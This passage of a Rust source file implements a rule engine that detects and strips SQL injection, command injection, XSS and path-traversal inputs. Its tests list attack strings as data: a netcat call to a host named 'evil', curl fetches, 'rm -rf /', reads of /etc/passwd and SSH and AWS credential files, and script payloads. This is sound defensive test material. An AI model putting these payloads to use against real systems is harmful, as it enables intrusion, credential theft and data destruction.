    pub(crate) result: ScanResult,
}

/// Most strip rounds before a value that still matches is rejected instead.
const MAX_STRIP_ROUNDS: usize = 8;

const REGEX_SIZE_LIMIT: usize = 32 * 1024 * 1024;

impl RuleEngine {
    /// Compiles the built-in categories and the blocked patterns.
    pub(crate) fn new(
        builtin: &BuiltinRules,
        blocked: &[BlockedPattern],
        blocked_action: RuleAction,
    ) -> Result<Self, ConfigError> {
        let mut rules: Vec<RuleMeta> = FIXED_RULES
            .iter()
            .map(|n| RuleMeta {
                name: Cow::Borrowed(n),
                action: RuleAction::Reject,
                cleaner: Cleaner::None,
                regexes: Vec::new(),
                literals: Vec::new(),
            })
            .collect();
        let mut regex_src: Vec<String> = Vec::new();
        let mut user_src: Vec<String> = Vec::new();
        let mut set_rule = Vec::new();
        let mut literals: Vec<String> = Vec::new();
        let mut ac_rule = Vec::new();
        let (mut anchored_src, mut anchored_rule, mut anchored_bytes) =
            (Vec::new(), Vec::new(), [false; 256]);
        let (mut gated_src, mut gated_rule, mut gated_bytes) =
            (Vec::new(), Vec::new(), [false; 256]);
        let (mut shell_src, mut shell_rule) = (Vec::new(), Vec::new());
        let (mut extra_src, mut extra_rule, mut extra_lits) = (Vec::new(), Vec::new(), Vec::new());

        for c in Category::ALL {
            let setting = builtin.get(c);
            if !setting.enabled {
                continue;
            }
            let idx = rules.len();
            let mut own = Vec::new();
            let (trigger_bytes, anchored) = c.triggers();
            for (pi, p) in c.patterns().iter().enumerate() {
                let anchored = anchored && pi < c.gated_from();
                own.push(regex_src.len());
                // Built-in patterns are ASCII and case-insensitive; `(?-u)` keeps the DFA
                // fast on non-ASCII input.
                let src = format!("(?i-u:{p})");
                if anchored {
                    anchored_src.push(src.clone());
                    anchored_rule.push(idx);
                } else {
                    gated_src.push(src.clone());
                    gated_rule.push(idx);
                }
                regex_src.push(src);
            }
            if anchored {
                byte_table(trigger_bytes, &mut anchored_bytes);
            } else {
                byte_table(trigger_bytes, &mut gated_bytes);
            }
            if c == Category::CommandInjection {
                // The gated `rm` pattern: the `-` of its first flag.
                byte_table(b"-", &mut gated_bytes);
                for p in c.patterns().iter().chain(supplement::SHELL_PATTERNS) {
                    shell_src.push(format!("(?i-u:{p})"));
                    shell_rule.push(idx);
                }
            }
            let (extra_pats, lits) = supplement::patterns(c);
            for p in extra_pats {
                let src = format!("(?i-u:{p})");
                own.push(regex_src.len());
                extra_src.push(src.clone());
                extra_rule.push(idx);
                regex_src.push(src);
            }
            extra_lits.extend_from_slice(lits);
            rules.push(RuleMeta {
                name: Cow::Borrowed(c.name()),
                action: setting.action,
                cleaner: match c {
                    Category::SqlInjection => Cleaner::Sql,
                    Category::CommandInjection => Cleaner::Command,
                    Category::Xss | Category::PathTraversal => Cleaner::RemoveMatches,
                },
                regexes: own,
                literals: Vec::new(),
            });
        }

        for (i, p) in blocked.iter().enumerate() {
            let key = format!("blocked_patterns[{i}]");
            let (name, literal, regex, action) = match p {
                BlockedPattern::Literal(s) => (None, Some(s.as_str()), None, None),
                BlockedPattern::Detailed {
                    name,
                    literal,
                    regex,
                    action,
                } => (name.clone(), literal.as_deref(), regex.as_deref(), *action),
            };
            let name = name.unwrap_or_else(|| format!("blocked_pattern[{i}]"));
            if name.is_empty()
                || name.len() > 64
                || !name
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "_-[].:".contains(c))
            {
                return Err(ConfigError::invalid(
                    format!("{key}.name"),
                    "must be 1 to 64 ASCII letters, digits or _ - [ ] . :",
                ));
            }
            if rules.iter().any(|r| r.name == name) {
                return Err(ConfigError::invalid(
                    format!("{key}.name"),
                    "must be unique among rule names",
                ));
            }
            let idx = rules.len();
            let mut meta = RuleMeta {
                name: Cow::Owned(name),
                action: action.unwrap_or(blocked_action),
                cleaner: Cleaner::RemoveMatches,
                regexes: Vec::new(),
                literals: Vec::new(),
            };
            match (literal, regex) {
                (Some(l), None) => {
                    if l.is_empty() {
                        return Err(ConfigError::invalid(key, "a literal must not be empty"));
                    }
                    meta.literals.push(literals.len());
                    // Matched on the folded view too: whitespace runs and case folded.
                    literals.push(text::fold_whitespace(l).to_lowercase());
                    ac_rule.push(idx);
                }
                (None, Some(r)) => {
                    // Checked alone first so that the error names the pattern's key.
                    let single = RegexBuilder::new(r)
                        .size_limit(REGEX_SIZE_LIMIT)
                        .build()
                        .map_err(|_| ConfigError::invalid(key.clone(), "not a valid regex"))?;
                    if single.is_match(b"") {
                        return Err(ConfigError::invalid(
                            key,
                            "a regex must not match the empty string",
                        ));
                    }
                    meta.regexes.push(regex_src.len());
                    regex_src.push(r.to_owned());
                    user_src.push(r.to_owned());
                    set_rule.push(idx);
                }
                _ => {
                    return Err(ConfigError::invalid(
                        key,
                        "exactly one of `literal` and `regex` is required",
                    ));
                }
            }
            rules.push(meta);
        }

        let ac = if literals.is_empty() {
            None
        } else {
            Some(
                AhoCorasickBuilder::new()
                    .ascii_case_insensitive(true)
                    .match_kind(MatchKind::Standard)
                    .build(&literals)
                    .map_err(|_| {
                        ConfigError::invalid("blocked_patterns", "too many or too long literals")
                    })?,
            )
        };
        let set = if user_src.is_empty() {
            None
        } else {
            Some(
                RegexSetBuilder::new(&user_src)
                    .size_limit(REGEX_SIZE_LIMIT)
                    .build()
                    .map_err(|_| {
                        ConfigError::invalid(
                            "blocked_patterns",
                            "the regexes together are too large",
                        )
                    })?,
            )
        };
        let regexes = regex_src
            .iter()
            .map(|r| RegexBuilder::new(r).size_limit(REGEX_SIZE_LIMIT).build())
            .collect::<Result<Vec<_>, _>>()
            .map_err(|_| ConfigError::invalid("blocked_patterns", "not a valid regex"))?;
        let mut flags = [0u8; 256];
        for i in 0..256 {
            if anchored_bytes[i] {
                flags[i] |= TRIGGER;
            }
            if gated_bytes[i] {
                flags[i] |= GATE;
            }
            // `i` is below 256.
            let byte = i as u8;
            if classify::control_lead(byte) != 0 && !matches!(byte, b'\t' | b'\n' | b'\r') {
                flags[i] |= CTRL;
            }
            if byte == b':' {
                flags[i] |= COLON;
            }
            if matches!(byte, b'%' | b'&' | b'/' | b'\\')
                || (!ac_rule.is_empty() || !set_rule.is_empty())
                    && matches!(byte, b'\t' | b'\n' | b'\r' | 0x0b | 0x0c)
            {
                flags[i] |= NORM;
            }
        }
        let fold_spaces = !ac_rule.is_empty() || !set_rule.is_empty();
        let extra_pre = if extra_lits.is_empty() {
            None
        } else {
            Some(
                AhoCorasickBuilder::new()
                    .ascii_case_insensitive(true)
                    .build(&extra_lits)
                    .map_err(|_| ConfigError::invalid("rules", "built-in literals failed"))?,
            )
        };
        Ok(Self {
            shell: TriggeredSet::build(&shell_src, shell_rule)?,
            extra: TriggeredSet::build(&extra_src, extra_rule)?,
            extra_pre,
            fold_spaces,
            rules,
            ac,
            ac_rule,
            set,
            set_rule,
            flags,
            anchored: TriggeredSet::build(&anchored_src, anchored_rule)?,
            gated: TriggeredSet::build(&gated_src, gated_rule)?,
            regexes,
        })
    }

    /// The index of the rule called `name`.
    pub(crate) fn index_of(&self, name: &str) -> Option<usize> {
        self.rules.iter().position(|r| r.name == name)
    }

    /// Whether any rule matches (exemptions ignored).
    pub(crate) fn any_match(&self, s: &str) -> bool {
        let b = s.as_bytes();
        self.ac.as_ref().is_some_and(|ac| ac.is_match(b))
            || self.prescan(b).is_none()
            || self.set.as_ref().is_some_and(|set| set.is_match(b))
            || self.extra_match(b)
    }

    /// Whether a supplementary pattern matches `b` (searched only past its prefilter).
    fn extra_match(&self, b: &[u8]) -> bool {
        self.extra_pre.as_ref().is_some_and(|ac| ac.is_match(b))
            && self.extra.as_ref().is_some_and(|e| e.matches_anywhere(b))
    }

    /// The supplementary patterns that match `b`, added to `out`.
    fn extra_matches_into(&self, b: &[u8], out: &mut RuleSet) {
        if self.extra_pre.as_ref().is_some_and(|ac| ac.is_match(b))
            && let Some(e) = &self.extra
        {
            e.matches_into(b, out);
        }
    }

    /// Whether the shell view of a value with these bytes may match what the value does
    /// not: a separator and a quoting byte for the command rule; with blocked patterns,
    /// any quoting byte or an `rm` with flags.
    fn shell_needed(&self, b: &[u8]) -> bool {
        if self.shell.is_none() && !self.fold_spaces {
            return false;
        }
        let (sep, quote) = shell::gate_bytes(b);
        (self.shell.is_some() && sep && quote)
            || (self.fold_spaces && (quote || shell::has_rm_flags(b)))
    }

    /// Whether the command rule or a blocked pattern matches the shell view of `v`.
    fn shell_match(&self, v: &str) -> bool {
        let sv = shell::shell_view(v);
        if self
            .shell
            .as_ref()
            .is_some_and(|s| s.matches_anywhere(sv.as_bytes()))
        {
            return true;
        }
        if !matches!(sv, Cow::Owned(_)) || (self.ac.is_none() && self.set.is_none()) {
            return false;
        }
        let w = text::fold_whitespace(&sv);
        self.set
            .as_ref()
            .is_some_and(|set| set.is_match(w.as_bytes()))
            || self
                .ac
                .as_ref()
                .is_some_and(|ac| ac.is_match(lower(&w).as_bytes()))
    }

    /// The rules that match the shell view of `v`, added to `out`.
    fn shell_matches_into(&self, v: &str, out: &mut RuleSet) {
        if !self.shell_needed(v.as_bytes()) {
            return;
        }
        let sv = shell::shell_view(v);
        if let Some(s) = &self.shell {
            s.matches_into(sv.as_bytes(), out);
        }
        if !matches!(sv, Cow::Owned(_)) {
            return;
        }
        let w = text::fold_whitespace(&sv);
        if let Some(set) = &self.set {
            for i in set.matches(w.as_bytes()).iter() {
                out.insert(self.set_rule[i]);
            }
        }
        if let Some(ac) = &self.ac {
            for m in ac.find_overlapping_iter(lower(&w).as_bytes()) {
                out.insert(self.ac_rule[m.pattern().as_usize()]);
            }
        }
    }

    /// One pass over a value's bytes: the built-in rules (an anchored search at each
    /// trigger byte that [`may_start_at`] lets through, and at the start; the gated search
    /// if a gate byte was seen), forbidden control characters and URL candidates.
    /// `None` as soon as a built-in pattern matches (the facts are then incomplete).
    fn prescan(&self, b: &[u8]) -> Option<ValueFacts> {
        // The patterns anchored with `^` are tried at the start; the others start at a
        // trigger byte, found by the loop.
        if start_may_match(b) && self.anchored.as_ref().is_some_and(|a| a.matches_at(b, 0)) {
            return None;
        }
        if b.len() < classify::CHUNK {
            // Short values (tags, names): byte by byte against the table.
            self.prescan_at(b, (0..b.len()).filter(|&p| self.flags[b[p] as usize] != 0))
        } else {
            self.prescan_at(b, classify::flagged(b, classify::value_byte))
        }
    }

    /// The work of [`Self::prescan`] at the flagged positions (a superset of the bytes
    /// with a flag in the table), inlined into both loops.
    #[inline(always)]
    fn prescan_at(&self, b: &[u8], positions: impl Iterator<Item = usize>) -> Option<ValueFacts> {
        let anchored = self.anchored.as_ref();
        let mut facts = ValueFacts::default();
        let mut gate_seen = false;
        for p in positions {
            let f = self.flags[b[p] as usize];
            if f & TRIGGER != 0
                && may_start_at(b, p)
                && anchored.is_some_and(|a| a.matches_at(b, p))
            {
                return None;
            }
            if f & (CTRL | COLON | GATE | NORM) == 0 {
                continue;
            }
            if f & NORM != 0 && !facts.view {
                facts.view = view_at(b, p);
            }
            if f & CTRL != 0 && !facts.control {
                facts.control = classify::control_at(b, p);
            }
            if f & COLON != 0 && crate::ssrf::colon_may_start_url(b, p) {
                facts.single_url = if facts.url { None } else { Some(p) };
                facts.url = true;
            }
            if f & GATE != 0 && !gate_seen {
                gate_seen = gate_at(b, p);
            }
        }
        if gate_seen && self.gated.as_ref().is_some_and(|g| g.matches_anywhere(b)) {
            return None;
        }
        Some(facts)
    }

    /// Scans a value of the argument scope in one pass: the rules as [`Self::scan`], and
    /// whether it holds a forbidden control character and a URL candidate. When nothing
    /// matches (the common case) the facts come from the same pass; otherwise they are
    /// computed apart.
    pub(crate) fn scan_value(&self, s: &str, exempt: Option<&RuleSet>) -> ValueScan {
        let b = s.as_bytes();
        if let Some(facts) = self.prescan(b)
            && !self.ac.as_ref().is_some_and(|ac| ac.is_match(b))
            && !self.set.as_ref().is_some_and(|set| set.is_match(b))
            && !self.extra_match(b)
            && !(if self.may_differ(b, facts) {
                self.view_match_after(s, facts)
            } else {
                self.shell_needed(b) && self.shell_match(s)
            })
        {
            return ValueScan {
                facts,
                result: ScanResult::Clean,
            };
        }
        ValueScan {
            facts: ValueFacts {
                control: text::has_forbidden_control(s),
                url: true,
                single_url: None,
                view: true,
            },
            result: self.scan(s, exempt),
        }
    }

    /// Whether the normalized views of a value may differ from it (facts from
    /// [`Self::prescan`]): a flagged byte, a non-ASCII byte, or two spaces in a row when
    /// blocked patterns see whitespace folded. Pure ASCII values without such a byte are
    /// neither copied nor normalized. Where it holds, [`Self::view_match_after`] builds
    /// the view; where it does not, only the shell view of the value itself is looked at.
    #[inline]
    fn may_differ(&self, b: &[u8], facts: ValueFacts) -> bool {
        facts.view
            || !b.is_ascii()
            || (self.fold_spaces && memchr::memmem::find(b, b"  ").is_some())
    }

    /// [`Self::view_match`] for a value whose [`Self::prescan`] found `facts`, building
    /// only the steps of [`text::normalize_for_rules`] that can change it: with no byte
    /// flagged for the view (no `%`, no `&` before `#` or a letter, no separator run or
    /// `.` segment but after a `:`), no decoding round changes anything; a value that is
    /// ASCII or whose non-ASCII characters NFKC keeps (and none invisible or a space) is
    /// left as it is by the Unicode step; what remains is the separators after a `:`.
    /// Decides exactly as [`Self::view_match`] wherever the view is looked at (a flagged
    /// byte, a non-ASCII byte, or two spaces in a row with blocked patterns).
    #[inline]
    fn view_match_after(&self, s: &str, facts: ValueFacts) -> bool {
        let b = s.as_bytes();
        let ascii = b.is_ascii();
        if !facts.view && ascii && !(self.fold_spaces && memchr::memmem::find(b, b"  ").is_some()) {
            return false;
        }
        let v = if facts.view || (!ascii && text::unicode_view_differs(s)) {
            text::normalize_for_rules(s)
        } else if memchr::memchr_iter(b':', b).any(|i| b.get(i + 1) == Some(&b'/')) {
            text::collapse_path(s).map_or(Cow::Borrowed(s), Cow::Owned)
        } else {
            Cow::Borrowed(s)
        };
        self.view_match_of(v)
    }

    /// Whether a rule matches the normalized views of `s` ([`text::normalize_for_rules`]
    /// for every rule; whitespace folded for the blocked patterns, case folded for their
    /// literals).
    pub(crate) fn view_match(&self, s: &str) -> bool {
        self.view_match_of(text::normalize_for_rules(s))
    }

    /// [`Self::view_match`] given the view `v` (`Cow::Borrowed` when it is the value).
    fn view_match_of(&self, v: Cow<'_, str>) -> bool {
        if matches!(v, Cow::Owned(_))
            && (self.prescan(v.as_bytes()).is_none() || self.extra_match(v.as_bytes()))
        {
            return true;
        }
        if self.shell_needed(v.as_bytes()) && self.shell_match(&v) {
            return true;
        }
        if self.ac.is_none() && self.set.is_none() {
            return false;
        }
        let w = text::fold_whitespace(&v);
        self.set
            .as_ref()
            .is_some_and(|set| set.is_match(w.as_bytes()))
            || self
                .ac
                .as_ref()
                .is_some_and(|ac| ac.is_match(lower(&w).as_bytes()))
    }

    /// The rules that match the normalized views of `s`, added to `out`.
    fn view_matches_into(&self, s: &str, out: &mut RuleSet) {
        let v = text::normalize_for_rules(s);
        if matches!(v, Cow::Owned(_)) {
            let vb = v.as_bytes();
            if let Some(a) = &self.anchored {
                a.matches_into(vb, out);
            }
            if let Some(g) = &self.gated {
                g.matches_into(vb, out);
            }
            self.extra_matches_into(vb, out);
        }
        self.shell_matches_into(&v, out);
        if self.ac.is_none() && self.set.is_none() {
            return;
        }
        let w = text::fold_whitespace(&v);
        if let Some(set) = &self.set {
            for i in set.matches(w.as_bytes()).iter() {
                out.insert(self.set_rule[i]);
            }
        }
        if let Some(ac) = &self.ac {
            for m in ac.find_overlapping_iter(lower(&w).as_bytes()) {
                out.insert(self.ac_rule[m.pattern().as_usize()]);
            }
        }
    }

    /// Every rule that matches `s`.
    fn matches(&self, s: &str) -> RuleSet {
        let b = s.as_bytes();
        let mut out = RuleSet::default();
        if let Some(ac) = &self.ac {
            for m in ac.find_overlapping_iter(b) {
                out.insert(self.ac_rule[m.pattern().as_usize()]);
            }
        }
        if let Some(set) = &self.set {
            for i in set.matches(b).iter() {
                out.insert(self.set_rule[i]);
            }
        }
        if let Some(a) = &self.anchored {
            a.matches_into(b, &mut out);
        }
        if let Some(g) = &self.gated {
            g.matches_into(b, &mut out);
        }
        self.extra_matches_into(b, &mut out);
        out
    }

    /// Scans a value: clean, rejected by a rule, or to be stripped.
    pub(crate) fn scan(&self, s: &str, exempt: Option<&RuleSet>) -> ScanResult {
        if !self.any_match(s) && !self.view_match(s) {
            return ScanResult::Clean;
        }
        let mut m = self.matches(s);
        self.view_matches_into(s, &mut m);
        if let Some(e) = exempt {
            m.remove_all(e);
        }
        if m.is_empty() {
            return ScanResult::Clean;
        }
        if let Some(r) = m
            .iter()
            .find(|&i| self.rules[i].action == RuleAction::Reject)
        {
            return ScanResult::Reject(r);
        }
        ScanResult::Strip(m)
    }

    /// Cleans `s` with the stripping rules that match it, until no non-exempt rule matches.
    /// Returns the cleaned value, or the rule that still matches (or rejects) after
    /// [`MAX_STRIP_ROUNDS`] rounds.
    #[cfg(test)]
    pub(crate) fn strip(&self, s: &str, exempt: Option<&RuleSet>) -> Result<String, usize> {
        let mut applied = RuleSet::default();
        self.strip_tracking(s, exempt, &mut applied)
            .map(|o| o.unwrap_or_else(|| s.to_owned()))
    }

    /// Like `strip`, recording the rules applied; `Ok(None)` when nothing matched.
    pub(crate) fn strip_tracking(
        &self,
        s: &str,
        exempt: Option<&RuleSet>,
        applied: &mut RuleSet,
    ) -> Result<Option<String>, usize> {
        let mut cur: Option<String> = None;
        for _ in 0..MAX_STRIP_ROUNDS {
            let now = cur.as_deref().unwrap_or(s);
            match self.scan(now, exempt) {
                ScanResult::Clean => return Ok(cur),
                ScanResult::Reject(r) => return Err(r),
                ScanResult::Strip(set) => {
                    let mut next = now.to_owned();
                    for r in set.iter() {
                        applied.insert(r);
                        next = self.clean_one(&next, r);
                    }
                    cur = Some(next);
                }
            }
        }
        match self.scan(cur.as_deref().unwrap_or(s), exempt) {
            ScanResult::Clean => Ok(cur),
            ScanResult::Reject(r) => Err(r),
            ScanResult::Strip(set) => Err(set.iter().next().unwrap_or(URL_INVALID)),
        }
    }

    fn clean_one(&self, s: &str, rule: usize) -> String {
        let Some(meta) = self.rules.get(rule) else {
            return s.to_owned();
        };
        match meta.cleaner {
            Cleaner::Sql => {
                let mut v = s.to_owned();
                for t in text::SQL_TOKENS {
                    v = v.replace(t, "");
                }
                v.retain(|c| !text::SQL_CHARS.contains(&c));
                v
            }
            Cleaner::Command => {
                let mut v = s.to_owned();
                v.retain(|c| c != ';' && !text::COMMAND_CHARS.contains(&c));
                v
            }
            Cleaner::RemoveMatches => {
                let mut bytes: Cow<'_, [u8]> = Cow::Borrowed(s.as_bytes());
                for &ri in &meta.regexes {
                    if let Some(re) = self.regexes.get(ri) {
                        let next = re.replace_all(&bytes, &b""[..]).into_owned();
                        bytes = Cow::Owned(next);
                    }
                }
                if let Some(ac) = &self.ac
                    && !meta.literals.is_empty()
                {
                    let mut out = Vec::with_capacity(bytes.len());
                    let mut last = 0;
                    for m in ac.find_iter(&*bytes) {
                        if meta.literals.contains(&m.pattern().as_usize()) {
                            out.extend_from_slice(&bytes[last..m.start()]);
                            last = m.end();
                        }
                    }
                    out.extend_from_slice(&bytes[last..]);
                    bytes = Cow::Owned(out);
                }
                match String::from_utf8(bytes.into_owned()) {
                    Ok(s) => s,
                    // A user regex in byte mode may cut a character: keep the value valid.
                    Err(e) => String::from_utf8_lossy(e.as_bytes()).into_owned(),
                }
            }
            Cleaner::None => s.to_owned(),
        }
    }
}

static BUILTIN: LazyLock<Option<RuleEngine>> =
    LazyLock::new(|| RuleEngine::new(&BuiltinRules::default(), &[], RuleAction::Reject).ok());

/// The built-in rule sets, all enabled, compiled once for the plain functions.
pub(crate) fn builtin_engine() -> Option<&'static RuleEngine> {
    BUILTIN.as_ref()
}

/// Whether a built-in rule set matches `s` (for use outside the layer).
///
/// ```
/// use mcp_sanitize::rules::{Category, matches_category};
/// assert!(matches_category(Category::SqlInjection, "1' OR '1'='1"));
/// assert!(!matches_category(Category::SqlInjection, "O'Brien"));
/// ```
pub fn matches_category(category: Category, s: &str) -> bool {
    builtin_engine().is_none_or(|e| {
        e.matches(s)
            .iter()
            .any(|i| e.rules.get(i).is_some_and(|r| r.name == category.name()))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn engine() -> RuleEngine {
        RuleEngine::new(&BuiltinRules::default(), &[], RuleAction::Reject).unwrap()
    }

    fn hits(c: Category, s: &str) -> bool {
        matches_category(c, s)
    }

    #[test]
    fn builtin_compiles() {
        assert!(builtin_engine().is_some());
        assert_eq!(engine().rules.len(), 8);
    }

    /// Attacks the sql injection rules must catch.
    const SQL_ATTACKS: &[&str] = &[
        "' OR '1'='1",
        "1\" or 1=1 --",
        "x'; DROP TABLE users; --",
        "'; DROP TABLE users; --",
        "1; delete from accounts",
        "') UNION SELECT password FROM users",
        "' union/**/all/**/select 1",
        "'; WAITFOR DELAY '0:0:5'",
        "1' AND SLEEP(5)",
        "UN/**/ION SEL/**/ECT",
        "admin'--",
        "admin'#",
        "1;--",
    ];

    /// Harmless values the sql injection rules must let through.
    const SQL_HARMLESS: &[&str] = &[
        "O'Brien",
        "select the best option",
        "rock and roll",
        "it's 5 o'clock; time for tea",
        "Union Square",
        "a - b -- c",
        "\"quoted\" text",
    ];

    /// Attacks the command injection rules must catch.
    const CMD_ATTACKS: &[&str] = &[
        "foo; rm -rf /",
        "a | nc evil 4444",
        "x && curl http://e",
        "$(whoami)",
        "${IFS}cat${IFS}/etc/passwd",
        "`whoami`",
        "x > /etc/cron.d/job",
        "name;/bin/sh",
        "2>&1",
        "x||y",
    ];

    /// Harmless values the command injection rules must let through.
    const CMD_HARMLESS: &[&str] = &[
        "rm is a command",
        "cats and dogs",
        "price $5",
        "a & b",
        "left | right",
        "(parenthesised)",
        "2 > 1",
    ];

    /// Attacks the xss rules must catch.
    const XSS_ATTACKS: &[&str] = &[
        "<script>alert(1)</script>",
        "< SCRIPT src=//x>",
        "javascript:alert(1)",
        "JaVaScRiPt :x",
        "<img src=x onerror=alert(1)>",
        "<body onload = x()>",
        "<iframe src=x>",
        "data:text/html;base64,xx",
        "<svg/onload=x>",
    ];

    /// Harmless values the xss rules must let through.
    const XSS_HARMLESS: &[&str] = &[
        "one = 1",
        "only=yes",
        "java script",
        "description: a <b>bold</b> word",
    ];

    /// Attacks the path traversal rules must catch.
    const PATH_ATTACKS: &[&str] = &[
        "../../etc/passwd",
        "..\\..\\windows",
        "a/../b",
        "..",
        "%2e%2e%2fetc",
        "%2E%2E/",
        "..%2f..%2f",
        "%252e%252e%252f",
        "%c0%ae%c0%ae/",
        "file.txt%00.png",
        "/etc/shadow",
        "C:\\Windows\\System32",
        "/proc/self/environ",
        "~/.ssh/id_rsa",
        "..;/admin",
    ];

    /// Harmless values the path traversal rules must let through.
    const PATH_HARMLESS: &[&str] = &[
        "file..txt",
        "a/b/c",
        "v1.2.3",
        "...",
        "etc/passwords-manager",
    ];

    #[test]
    fn sql_injection() {
        use Category::SqlInjection as C;
        for &bad in SQL_ATTACKS {
            assert!(hits(C, bad), "{bad}");
        }
        for &good in SQL_HARMLESS {
            assert!(!hits(C, good), "{good}");
        }
    }

    #[test]
    fn command_injection() {
        use Category::CommandInjection as C;
        for &bad in CMD_ATTACKS {
            assert!(hits(C, bad), "{bad}");
        }
        for &good in CMD_HARMLESS {
            assert!(!hits(C, good), "{good}");
        }
    }

    #[test]
    fn xss() {
        use Category::Xss as C;
        for &bad in XSS_ATTACKS {
            assert!(hits(C, bad), "{bad}");
        }
        for &good in XSS_HARMLESS {
            assert!(!hits(C, good), "{good}");
        }
    }

    #[test]
    fn path_traversal() {
        use Category::PathTraversal as C;
        for &bad in PATH_ATTACKS {
            assert!(hits(C, bad), "{bad}");
        }
        for &good in PATH_HARMLESS {
            assert!(!hits(C, good), "{good}");
        }
    }

    #[test]
    fn blocked_patterns_literal_and_regex() {
        let blocked = vec![
            BlockedPattern::Literal("DROP TABLE".into()),
            BlockedPattern::Literal("rm -rf".into()),
            BlockedPattern::Detailed {
                name: Some("ssn".into()),
                literal: None,
                regex: Some(r"\b\d{3}-\d{2}-\d{4}\b".into()),
                action: Some(RuleAction::Strip),
            },
        ];
        let e = RuleEngine::new(&BuiltinRules::none(), &blocked, RuleAction::Reject).unwrap();
        assert!(
            matches!(e.scan("please drop table x", None), ScanResult::Reject(i) if e.rules[i].name == "blocked_pattern[0]")
        );
        assert!(matches!(e.scan("RM -RF", None), ScanResult::Reject(_)));
        assert!(matches!(e.scan("fine", None), ScanResult::Clean));
        assert!(matches!(
            e.scan("id 123-45-6789", None),
            ScanResult::Strip(_)
        ));
        assert_eq!(e.strip("id 123-45-6789 ok", None).unwrap(), "id  ok");
        // Exempting the rule lets the value through.
        let mut ex = RuleSet::default();
        ex.insert(e.index_of("blocked_pattern[0]").unwrap());
        assert!(matches!(e.scan("drop table", Some(&ex)), ScanResult::Clean));
    }

    #[test]
    fn byte_table_is_within_the_vector_class() {
        let e = engine();
        for c in 0u8..=255 {
            // The per-byte table flags nothing the vector class would skip.
            if e.flags[c as usize] != 0 {
                assert!(classify::value_byte(c) != 0, "{c:#x}");
            }
            assert_eq!(
                e.flags[c as usize] & CTRL != 0,
                (c < 0x20 && !matches!(c, b'\t' | b'\n' | b'\r')) || c == 0x7f || c == 0xc2,
                "{c:#x}"
            );
        }
        // Every byte that starts a built-in pattern, or gates one, is flagged.
        for cat in Category::ALL {
            let (bytes, anchored) = cat.triggers();
            for &t in bytes {
                assert!(classify::value_byte(t) != 0, "{t:#x}");
                let bit = if anchored { TRIGGER } else { GATE };
                assert!(e.flags[t as usize] & bit != 0, "{t:#x}");
            }
        }
    }

    #[test]
    fn every_command_of_the_rule_is_listed() {
        for cmd in concat!(shell_commands!()).split('|') {
            if cmd.starts_with("python") {
                continue;
            }
            assert!(is_shell_command(cmd.as_bytes()), "{cmd}");
            assert!(is_shell_command(cmd.to_uppercase().as_bytes()), "{cmd}");
        }
        assert!(!is_shell_command(b"page"));
        assert!(!is_shell_command(b""));
        assert!(!is_shell_command(b"powershell2"));
    }

    /// More attacks and look-alikes than the rule tests above use, and encoding and
    /// Unicode evasions.
    const CORPUS_MORE: &[&str] = &[
        "x' and benchmark(1000,md5(1))",
        "'; select pg_sleep(5)",
        "' || dbms_pipe.receive_message('a',5)",
        "' union select load_file('/etc/passwd')",
        "' into outfile '/tmp/x'",
        "\" xor 1=1",
        "admin' )  -- x",
        "a & /usr/bin/id",
        "a|/bin/sh",
        "a & python3.8 -c x",
        "a | PyThOn -c x",
        "a &\tWGET http://x",
        "x $IFS y",
        "%e0%80%ae%e0%80%ae/",
        "%U002E%u002e/",
        ".%2e/",
        "etc/passwd",
        ".aws/credentials",
        // Harmless look-alikes.
        "user's report",
        "https://docs.example.com/articles/1?ref=search&page=2",
        "https://e.com/a%20b%2Fc",
        // Encodings and Unicode: caught or not, both paths must say the same.
        "café'; DROP TABLE x; --",
        "\u{FF07} OR \u{FF07}1\u{FF07}=\u{FF07}1",
        "\u{FF1C}script\u{FF1E}",
        "java\u{0}script:alert(1)",
        "x\u{85}y; rm -rf /",
        "naïve\u{9f}",
        "\u{202E}txt.exe",
        "%C0%AE%C0%AE%2F",
        "\t\n\r",
        "",
    ];

    /// The attack cases and harmless look-alikes of the rule tests, and [`CORPUS_MORE`]:
    /// the fast path must agree with the full scan on each.
    fn corpus() -> impl Iterator<Item = &'static str> {
        [
            SQL_ATTACKS,
            SQL_HARMLESS,
            CMD_ATTACKS,
            CMD_HARMLESS,
            XSS_ATTACKS,
            XSS_HARMLESS,
            PATH_ATTACKS,
            PATH_HARMLESS,
            CORPUS_MORE,
        ]
        .into_iter()
        .flatten()
        .copied()
    }

    /// The full scan: every built-in pattern and every blocked pattern in one plain
    /// regex set, searched everywhere.
    /// Every built-in pattern: the categories' and their supplementary ones.
    fn builtin_sources() -> Vec<String> {
        Category::ALL
            .iter()
            .flat_map(|c| {
                c.patterns()
                    .iter()
                    .chain(supplement::patterns(*c).0)
                    .map(|p| format!("(?i-u:{p})"))
            })
            .collect()
    }

    /// The command rule's patterns on the shell view.
    static SHELL_SET: LazyLock<RegexSet> = LazyLock::new(|| {
        RegexSet::new(
            Category::CommandInjection
                .patterns()
                .iter()
                .chain(supplement::SHELL_PATTERNS)
                .map(|p| format!("(?i-u:{p})")),
        )
        .unwrap()
    });

    fn full_scan_set(blocked: &[BlockedPattern]) -> RegexSet {
        let mut src: Vec<String> = builtin_sources();
        for b in blocked {
            match b {
                BlockedPattern::Literal(l)
                | BlockedPattern::Detailed {
                    literal: Some(l), ..
                } => src.push(format!("(?i-u:{})", regex::escape(l))),
                BlockedPattern::Detailed { regex: Some(r), .. } => src.push(r.clone()),
                BlockedPattern::Detailed { .. } => {}
            }
        }
        RegexSet::new(src).unwrap()
    }

    fn blocked_for_tests() -> Vec<BlockedPattern> {
        vec![
            BlockedPattern::Literal("DROP TABLE".into()),
            BlockedPattern::Literal("xyzzy".into()),
            BlockedPattern::Detailed {
                name: Some("ssn".into()),
                literal: None,
                regex: Some(r"\b\d{3}-\d{2}-\d{4}\b".into()),
                action: None,
            },
            BlockedPattern::Detailed {
                name: Some("secret_ci".into()),
                literal: None,
                regex: Some(r"(?i)top\s+secret".into()),
                action: None,
            },
        ]
    }

    /// The full scan of a value and of its normalized views: every pattern on the value
    /// and on [`text::normalize_for_rules`]; the blocked patterns (the set's patterns
    /// after the built-in ones) also with whitespace folded, and case folded.
    /// And the shell view of the normalized view (computed whatever the value holds):
    /// the command rule's patterns, and the blocked patterns with whitespace folded.
    fn full_match(full: &RegexSet, s: &str) -> bool {
        let builtin = builtin_sources().len();
        let v = text::normalize_for_rules(s);
        let w = text::fold_whitespace(&v);
        let lw = w.to_lowercase();
        let sv = shell::shell_view(&v);
        let sw = text::fold_whitespace(&sv);
